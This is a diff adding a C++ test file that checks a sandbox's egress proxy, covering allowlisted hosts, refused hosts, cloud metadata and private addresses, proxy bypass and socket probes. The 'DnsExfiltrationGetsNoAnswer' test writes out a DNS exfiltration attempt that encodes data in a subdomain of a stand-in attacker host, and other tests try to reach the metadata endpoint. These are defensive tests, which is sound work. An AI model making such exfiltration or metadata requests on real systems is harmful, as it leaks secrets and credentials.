@@ -1,0 +1,293 @@
+// The network boundary of real sandboxes (issue 3): every attempt from inside a sandbox, through
+// the engine's egress proxy and airlock-forwarder, against test hosts on the documentation
+// ranges in network namespaces this test builds. Nothing leaves the machine: names resolve only
+// through the proxy's own table.
+#include <fcntl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/un.h>
+#include <unistd.h>
+
+#include <cstddef>
+#include <cstring>
+
+#include "common/files.h"
+#include "common/ids.h"
+#include "engine/testing/sandbox_fixture.h"
+#include "fmt/format.h"
+#include "netproxy/egress_proxy.h"
+#include "netproxy/events.h"
+#include "netproxy/testing/test_net.h"
+#include "netproxy/testing/test_servers.h"
+
+namespace airlock::engine {
+namespace {
+
+using netproxy::testing::RunCommand;
+using netproxy::testing::TestNetwork;
+using netproxy::testing::TestServer;
+
+class NetworkTest : public testing::SandboxTest {
+ protected:
+  void SetUp() override {
+    SandboxTest::SetUp();
+    if (IsSkipped() || HasFatalFailure()) return;
+    auto net = TestNetwork::Create();
+    if (!net.ok()) GTEST_SKIP() << "cannot build the test network: " << net.status();
+    net_ = *std::move(net);
+    char tmpl[] = "/tmp/airlock-net-XXXXXX";
+    dir_ = mkdtemp(tmpl);
+    ASSERT_EQ(chmod(dir_.c_str(), 0755), 0);
+    ASSERT_TRUE(MakeDirs(dir_ + "/www").ok());
+    for (auto [address, name] : {std::pair{TestNetwork::kHostA, "host-a"},
+                                 {TestNetwork::kHostB, "host-b"},
+                                 {TestNetwork::kHostC, "host-c"},
+                                 {TestNetwork::kPrivateHost, "private"}}) {
+      auto s = TestServer::Start(
+          {TestServer::Kind::kHttp, address, 80, net_->public_ns(), name, dir_ + "/www"});
+      ASSERT_TRUE(s.ok()) << s.status();
+      servers_[name] = *std::move(s);
+    }
+    netproxy::EgressProxy::Options options;
+    options.hosts = {{"registry.test", {TestNetwork::kHostA}},
+                     {"git.test", {TestNetwork::kHostB}},
+                     {"other.test", {TestNetwork::kHostC}},
+                     {"internal.test", {TestNetwork::kPrivateHost}},
+                     {"meta.test", {"169.254.169.254"}},
+                     {"rebind.test", {"169.254.169.254", TestNetwork::kHostC}}};
+    options.resolution = netproxy::NameResolution::kHostsOnly;
+    options.on_event = [this](const netproxy::EgressEvent& e) {
+      blocked_.Record(e);
+      std::lock_guard<std::mutex> lock(mu_);
+      if (std::holds_alternative<netproxy::PolicyChanged>(e)) ++policy_changes_;
+    };
+    auto proxy = netproxy::EgressProxy::Start(std::move(options));
+    ASSERT_TRUE(proxy.ok()) << proxy.status();
+    proxy_ = *std::move(proxy);
+  }
+  void TearDown() override {
+    proxy_.reset();
+    servers_.clear();
+    net_.reset();
+    if (!dir_.empty()) (void)RemoveTree(dir_);
+  }
+
+  spec::SandboxSpec Spec(spec::NetworkProfile profile, std::vector<std::string> hosts = {}) {
+    spec::SandboxSpec s = WithProbe(TestSpec());
+    s.network.profile = profile;
+    s.network.allow_hosts = std::move(hosts);
+    return s;
+  }
+
+  std::unique_ptr<NativeSandbox> Make(const spec::SandboxSpec& s,
+                                      netproxy::OperatorPolicy op = {}) {
+    SandboxOptions o;
+    o.spec = s;
+    o.tools_dir = AIRLOCK_TEST_TOOLS_DIR;
+    o.cgroups = cgroups_.get();
+    o.egress.proxy = proxy_.get();
+    o.egress.blocked = &blocked_;
+    o.egress.operator_policy = std::move(op);
+    auto sb = NativeSandbox::Create(std::move(o));
+    EXPECT_TRUE(sb.ok()) << sb.status();
+    return sb.ok() ? *std::move(sb) : nullptr;
+  }
+
+  CommandResult Exec(NativeSandbox& sb, std::vector<std::string> argv) {
+    auto r = sb.Exec({.argv = std::move(argv)}, {});
+    EXPECT_TRUE(r.ok()) << r.status();
+    return r.ok() ? *r : CommandResult{};
+  }
+
+  CommandResult Curl(NativeSandbox& sb, const std::string& url) {
+    return Exec(sb, {"curl", "-sSf", "--max-time", "20", url});
+  }
+
+  std::unique_ptr<TestNetwork> net_;
+  std::string dir_;
+  std::map<std::string, std::unique_ptr<TestServer>> servers_;
+  std::unique_ptr<netproxy::EgressProxy> proxy_;
+  netproxy::BlockedEventLog blocked_;
+  std::mutex mu_;
+  int policy_changes_ = 0;
+};
+
+TEST_F(NetworkTest, ProfileNoneHasNoRouteAndNoProxy) {
+  auto sb = Make(Spec(spec::NetworkProfile::kNone));
+  ASSERT_NE(sb, nullptr);
+  EXPECT_EQ(Exec(*sb, {"/opt/probe", "connect-tcp", TestNetwork::kHostA, "80"}).stdout_preview,
+            "connect-tcp: ENETUNREACH\n");
+  CommandResult env = Exec(*sb, {"sh", "-c", "env | grep -ci proxy || true"});
+  EXPECT_EQ(env.stdout_preview, "0\n");
+  DestroyAndCheckGone(std::move(sb));
+}
+
+TEST_F(NetworkTest, AllowedHostWorksWithCurl) {
+  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
+  ASSERT_NE(sb, nullptr);
+  CommandResult r = Curl(*sb, "http://registry.test/hello");
+  EXPECT_EQ(r.classification, Classification::kOk) << r.stderr_preview;
+  EXPECT_EQ(r.stdout_preview, "hello from host-a\n");
+  // HTTPS-style tunnel (CONNECT) to the same host.
+  r = Exec(*sb, {"curl", "-sSf", "--proxytunnel", "http://registry.test/hello"});
+  EXPECT_EQ(r.stdout_preview, "hello from host-a\n") << r.stderr_preview;
+  EXPECT_TRUE(r.violations.empty());
+  DestroyAndCheckGone(std::move(sb));
+}
+
+TEST_F(NetworkTest, GitClonesOverHttpInRepoEgress) {
+  std::string src = dir_ + "/src", bare = dir_ + "/www/repo.git";
+  std::vector<std::string> env = {"HOME=" + dir_, "GIT_AUTHOR_NAME=t", "GIT_COMMITTER_NAME=t",
+                                  "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_EMAIL=t@t"};
+  for (std::vector<std::string> cmd :
+       {std::vector<std::string>{"git", "init", "-q", "-b", "main", src},
+        {"sh", "-c", "echo through the proxy > " + src + "/README"},
+        {"git", "-C", src, "add", "README"},
+        {"git", "-C", src, "commit", "-q", "-m", "first"},
+        {"git", "clone", "-q", "--bare", src, bare},
+        {"git", "-C", bare, "update-server-info"}}) {
+    auto out = RunCommand(cmd, env);
+    ASSERT_TRUE(out.ok() && out->exit_code == 0) << cmd[0] << " " << out->output;
+  }
+  auto sb = Make(Spec(spec::NetworkProfile::kRepoEgress, {"git.test"}));
+  ASSERT_NE(sb, nullptr);
+  CommandResult r = Exec(*sb, {"sh", "-c", "git clone -q http://git.test/repo.git c && cat c/README"});
+  EXPECT_EQ(r.classification, Classification::kOk) << r.stderr_preview;
+  EXPECT_EQ(r.stdout_preview, "through the proxy\n");
+  DestroyAndCheckGone(std::move(sb));
+}
+
+TEST_F(NetworkTest, HostOffTheListIsRefusedAndTheFailureIsNetworkRequired) {
+  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
+  ASSERT_NE(sb, nullptr);
+  CommandResult r = Curl(*sb, "http://other.test/hello");
+  EXPECT_EQ(r.classification, Classification::kNetworkRequired) << r.stderr_preview;
+  EXPECT_EQ(r.failure, FailureKind::kNetworkRequired);
+  EXPECT_EQ(r.failure_detail, "other.test:80");
+  ASSERT_EQ(r.violations.size(), 1u);
+  EXPECT_EQ(r.violations[0].kind, "BlockedNetworkEgress");
+  EXPECT_EQ(r.violations[0].data["host"], "other.test");
+  EXPECT_EQ(r.violations[0].data["rule"], "not-allowlisted");
+  EXPECT_NE(r.report.find("network required: other.test:80"), std::string::npos) << r.report;
+  EXPECT_TRUE(servers_["host-c"]->requests().empty()) << "the refused host was contacted";
+  DestroyAndCheckGone(std::move(sb));
+}
+
+TEST_F(NetworkTest, MetadataAndPrivateAddressesAreRefusedEvenWhenOpen) {
+  auto sb = Make(Spec(spec::NetworkProfile::kOpen));
+  ASSERT_NE(sb, nullptr);
+  for (const char* url : {"http://meta.test/latest/meta-data/", "http://169.254.169.254/",
+                          "http://internal.test/hello", "http://[fd00:ec2::254]/"}) {
+    CommandResult r = Curl(*sb, url);
+    EXPECT_NE(r.exit_code, 0) << url;
+    ASSERT_FALSE(r.violations.empty()) << url;
+    EXPECT_EQ(r.violations[0].data["rule"].get<std::string>().rfind("always-denied:", 0), 0u)
+        << url << ": " << r.violations[0].data.dump();
+    EXPECT_NE(r.classification, Classification::kNetworkRequired)
+        << "a metadata/private refusal must never read as something a policy could open";
+  }
+  // A name that resolves to both metadata and a public address only ever reaches the public one.
+  CommandResult r = Curl(*sb, "http://rebind.test/hello");
+  EXPECT_EQ(r.stdout_preview, "hello from host-c\n") << r.stderr_preview;
+  EXPECT_TRUE(servers_["private"]->requests().empty());
+  DestroyAndCheckGone(std::move(sb));
+}
+
+TEST_F(NetworkTest, OnlyTheOperatorOpensAPrivateRegistry) {
+  netproxy::OperatorPolicy op;
+  op.open_private_hosts = {"internal.test"};
+  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"internal.test"}), op);
+  ASSERT_NE(sb, nullptr);
+  EXPECT_EQ(Curl(*sb, "http://internal.test/hello").stdout_preview, "hello from private\n");
+  DestroyAndCheckGone(std::move(sb));
+}
+
+TEST_F(NetworkTest, ToolsThatIgnoreTheProxyGetNoNetwork) {
+  auto sb = Make(Spec(spec::NetworkProfile::kOpen));
+  ASSERT_NE(sb, nullptr);
+  CommandResult r = Exec(*sb, {"curl", "-sS", "--noproxy", "*", "--max-time", "5",
+                               std::string("http://") + TestNetwork::kHostA + "/hello"});
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_EQ(Exec(*sb, {"/opt/probe", "connect-tcp", TestNetwork::kHostA, "80"}).stdout_preview,
+            "connect-tcp: ENETUNREACH\n");
+  EXPECT_EQ(Exec(*sb, {"/opt/probe", "udp-send", TestNetwork::kHostA, "53"}).stdout_preview,
+            "udp-send: ENETUNREACH\n");
+  EXPECT_EQ(Exec(*sb, {"/opt/probe", "raw-socket"}).stdout_preview, "raw-socket: EPERM\n");
+  // Ping sockets are off in a fresh namespace (net.ipv4.ping_group_range is empty).
+  EXPECT_EQ(Exec(*sb, {"/opt/probe", "ping-socket"}).stdout_preview, "ping-socket: EACCES\n");
+  EXPECT_TRUE(servers_["host-a"]->requests().empty());
+  DestroyAndCheckGone(std::move(sb));
+}
+
+TEST_F(NetworkTest, DnsExfiltrationGetsNoAnswer) {
+  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
+  ASSERT_NE(sb, nullptr);
+  // No resolver in the sandbox: the lookup fails at once, without a packet leaving.
+  CommandResult r = Exec(*sb, {"getent", "hosts", "c2VjcmV0.attacker.test"});
+  EXPECT_EQ(r.exit_code, 2);
+  EXPECT_LT(r.duration_ms, 2000);
+  // Through the proxy, a name off the list is refused before it is ever resolved.
+  r = Curl(*sb, "http://c2VjcmV0.attacker.test/");
+  ASSERT_EQ(r.violations.size(), 1u);
+  EXPECT_EQ(r.violations[0].data["resolved_address"], "");
+  DestroyAndCheckGone(std::move(sb));
+}
+
+TEST_F(NetworkTest, HostAbstractSocketsAreUnreachable) {
+  std::string name = "airlock-test-" + RandomHex(4);
+  sockaddr_un addr{};
+  addr.sun_family = AF_UNIX;
+  std::memcpy(addr.sun_path + 1, name.data(), name.size());
+  socklen_t len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
+  UniqueFd listener(socket(AF_UNIX, SOCK_STREAM, 0));
+  ASSERT_EQ(bind(listener.get(), reinterpret_cast<sockaddr*>(&addr), len), 0);
+  ASSERT_EQ(listen(listener.get(), 4), 0);
+  auto sb = Make(Spec(spec::NetworkProfile::kOpen));
+  ASSERT_NE(sb, nullptr);
+  EXPECT_EQ(Exec(*sb, {"/opt/probe", "abstract-connect", name}).stdout_preview,
+            "abstract-connect: ECONNREFUSED\n");
+  DestroyAndCheckGone(std::move(sb));
+}
+
+TEST_F(NetworkTest, SandboxesAreServedOnlyUnderTheirOwnPolicy) {
+  auto a = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
+  auto b = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"other.test"}));
+  ASSERT_NE(a, nullptr);
+  ASSERT_NE(b, nullptr);
+  EXPECT_EQ(Curl(*b, "http://other.test/hello").stdout_preview, "hello from host-c\n");
+  // A's forwarder and socket are its own: what B may reach, A may not.
+  CommandResult r = Curl(*a, "http://other.test/hello");
+  EXPECT_EQ(r.classification, Classification::kNetworkRequired);
+  EXPECT_EQ(Exec(*a, {"sh", "-c", "ls /run"}).stdout_preview, "egress.sock\n");
+  DestroyAndCheckGone(std::move(a));
+  DestroyAndCheckGone(std::move(b));
+}
+
+TEST_F(NetworkTest, PolicyChangesWithoutRestart) {
+  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
+  ASSERT_NE(sb, nullptr);
+  EXPECT_EQ(Curl(*sb, "http://other.test/hello").classification,
+            Classification::kNetworkRequired);
+  spec::Network wider;
+  wider.profile = spec::NetworkProfile::kDependencyEgress;
+  wider.allow_hosts = {"registry.test", "other.test"};
+  // Loosening needs the caller's authority.
+  EXPECT_EQ(sb->UpdateNetworkPolicy(wider, netproxy::PolicyAuthority::kTightenOnly).code(),
+            absl::StatusCode::kPermissionDenied);
+  ASSERT_TRUE(sb->UpdateNetworkPolicy(wider, netproxy::PolicyAuthority::kMayLoosen).ok());
+  EXPECT_EQ(Curl(*sb, "http://other.test/hello").stdout_preview, "hello from host-c\n");
+  spec::Network narrower;
+  narrower.profile = spec::NetworkProfile::kDependencyEgress;
+  narrower.allow_hosts = {"other.test"};
+  ASSERT_TRUE(sb->UpdateNetworkPolicy(narrower, netproxy::PolicyAuthority::kTightenOnly).ok());
+  EXPECT_EQ(Curl(*sb, "http://registry.test/hello").classification,
+            Classification::kNetworkRequired);
+  {
+    std::lock_guard<std::mutex> lock(mu_);
+    EXPECT_EQ(policy_changes_, 2) << "every change is an audit event";
+  }
+  DestroyAndCheckGone(std::move(sb));
+}
+
+}  // namespace
+}  // namespace airlock::engine
